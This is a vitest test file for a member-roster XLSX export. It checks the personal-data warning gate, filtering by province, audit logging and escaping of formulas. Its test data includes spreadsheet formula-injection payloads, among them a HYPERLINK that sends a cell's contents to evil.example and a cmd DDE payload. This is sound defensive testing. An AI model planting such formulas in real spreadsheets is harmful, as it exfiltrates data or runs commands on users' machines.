import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openTempLedger, type TempLedger } from '../../support/temp-ledger';
import type { MemberDraftInput } from '../../../shared/domain/member';
import { ledgerRows } from '../../support/ledger-rows';
import { callOk } from '../../support/call-operation';

let temp: TempLedger;
beforeEach(async () => {
  temp = await openTempLedger();
});
afterEach(() => temp.close());

const base: MemberDraftInput = {
  kind: 'individual',
  displayName: 'x',
  alias: null,
  category: 'union',
  organisationName: null,
  languages: ['pa'],
  preferredLanguage: null,
  email: null,
  phone: null,
  mayContact: true,
  mayBeNamed: false,
  joinedOn: '2024-01-01',
  leftOn: null,
  notes: null,
};

async function create(overrides: Partial<MemberDraftInput>) {
  const result = await temp.dispatch('members.create', { member: { ...base, ...overrides } });
  expect(result.ok).toBe(true);
}

describe('the roster export', () => {
  it('refuses to run unless the personal-data warning was accepted', async () => {
    const result = await temp.dispatch('roster.exportXlsx', { personalDataWarningAccepted: false });
    expect(result.ok || result.error.code).toBe('invalid_input');
  });

  it('neutralises every text cell that could run as a formula, and keeps other text as it is', async () => {
    await create({ displayName: '=HYPERLINK("http://evil.example/?"&B3,"Click")', notes: "+cmd|'/C calc'!A0" });
    await create({
      displayName: '@SUM(1+1)',
      alias: '-2+3+cmd|x',
      organisationName: '\t=1+1',
      phone: '+1 604 555 0134',
    });
    await create({ displayName: 'ਗੁਰਪ੍ਰੀਤ ਕੌਰ', email: 'g@example.org', notes: '\r=evil()' });

    const result = await temp.dispatch('roster.exportXlsx', { personalDataWarningAccepted: true });
    expect(result.ok).toBe(true);
    const data = result.ok
      ? (result.data as { fileName: string; mimeType: string; base64: string; memberCount: number })
      : undefined;
    expect(data?.fileName).toMatch(/^roster-\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(data?.mimeType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(data?.memberCount).toBe(3);

    const workbook = new ExcelJS.Workbook();
    const bytes = Buffer.from(data!.base64, 'base64');
    await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length));
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('A1').text).toMatch(/personal data/);
    const values: string[] = [];
    sheet.eachRow((row, rowNumber) => {
      if (rowNumber < 3) return;
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (cell.type === ExcelJS.ValueType.String) values.push(cell.value as string);
      });
    });
    expect(values).toContain('\'=HYPERLINK("http://evil.example/?"&B3,"Click")');
    expect(values).toContain("'+cmd|'/C calc'!A0");
    expect(values).toContain("'@SUM(1+1)");
    expect(values).toContain("'-2+3+cmd|x");
    // The member form trims leading tabs and line breaks; what is left behind them is still caught.
    expect(values).toContain("'=1+1");
    expect(values).toContain("'=evil()");
    expect(values).toContain('+1 604 555 0134');
    expect(values).toContain('ਗੁਰਪ੍ਰੀਤ ਕੌਰ');
    const dangerous = values.filter((value) => /^[=+\-@\t\r]/.test(value) && !/^\+[\d ]+$/.test(value));
    expect(dangerous).toEqual([]);
    const joined = sheet.getRow(3).getCell(13).value;
    expect(joined).toEqual(new Date('2024-01-01T00:00:00Z'));

    const audit = await ledgerRows(temp.ledger, "select changes from audit_log where operation = 'roster.exportXlsx'");
    expect(audit).toEqual([{ changes: JSON.stringify({ memberCount: { from: null, to: 3 }, province: { from: null, to: 'all' } }) }]);
  });

  it("holds only the chosen province's members, names the province, and records the scope in the audit log", async () => {
    await create({ displayName: 'Rosa Díaz', languages: ['es', 'en'] });
    await create({ displayName: 'Élodie Tremblay', languages: ['fr'], province: 'QC' });
    await create({ displayName: 'Ana Cruz', languages: ['tl'], province: 'QC' });
    await create({ displayName: 'Joy Mensah', province: 'ON' });

    const quebec = await callOk(temp.dispatch, 'roster.exportXlsx', { personalDataWarningAccepted: true, language: 'fr', province: 'QC' });
    expect(quebec.fileName).toMatch(/^roster-QC-\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(quebec.memberCount).toBe(2);
    const sheet = await firstSheet(quebec.base64);
    expect(sheet.name).toBe('Registre QC');
    const headers = (sheet.getRow(2).values as unknown[]).slice(1);
    const provinceColumn = headers.indexOf('Province ou territoire') + 1;
    expect(provinceColumn).toBeGreaterThan(0);
    const rows = dataRows(sheet).map((row) => [row.getCell(1).text, row.getCell(provinceColumn).text, row.getCell(provinceColumn + 1).text]);
    // Each member's own languages come with them, none of another province's members'.
    expect(rows).toEqual([
      ['Ana Cruz', 'Québec', 'Tagalog'],
      ['Élodie Tremblay', 'Québec', 'Français'],
    ]);

    const everyone = await callOk(temp.dispatch, 'roster.exportXlsx', { personalDataWarningAccepted: true, language: 'en', province: null });
    expect(everyone.fileName).toMatch(/^roster-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const all = await firstSheet(everyone.base64);
    expect(all.name).toBe('Roster');
    expect(dataRows(all).map((row) => row.getCell(provinceColumn).text).sort()).toEqual(['British Columbia', 'Ontario', 'Quebec', 'Quebec']);

    const yukon = await callOk(temp.dispatch, 'roster.exportXlsx', { personalDataWarningAccepted: true, language: 'en', province: 'YT' });
    expect(yukon.memberCount).toBe(0);
    expect(dataRows(await firstSheet(yukon.base64))).toEqual([]);

    const audit = await ledgerRows(temp.ledger, "select changes from audit_log where operation = 'roster.exportXlsx' order by id");
    expect(audit.map((row) => JSON.parse(String(row.changes)))).toEqual([
      { memberCount: { from: null, to: 2 }, province: { from: null, to: 'QC' } },
      { memberCount: { from: null, to: 4 }, province: { from: null, to: 'all' } },
      { memberCount: { from: null, to: 0 }, province: { from: null, to: 'YT' } },
    ]);
    expect((await temp.dispatch('roster.exportXlsx', { personalDataWarningAccepted: true, province: 'Quebec' })).ok).toBe(false);
  });
});

async function firstSheet(base64: string): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  const bytes = Buffer.from(base64, 'base64');
  await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length));
  return workbook.worksheets[0]!;
}

/** The members' rows, below the warning and the column headings. */
function dataRows(sheet: ExcelJS.Worksheet): ExcelJS.Row[] {
  const rows: ExcelJS.Row[] = [];
  sheet.eachRow((row, rowNumber) => {
    if (rowNumber > 2) rows.push(row);
  });
  return rows;
}
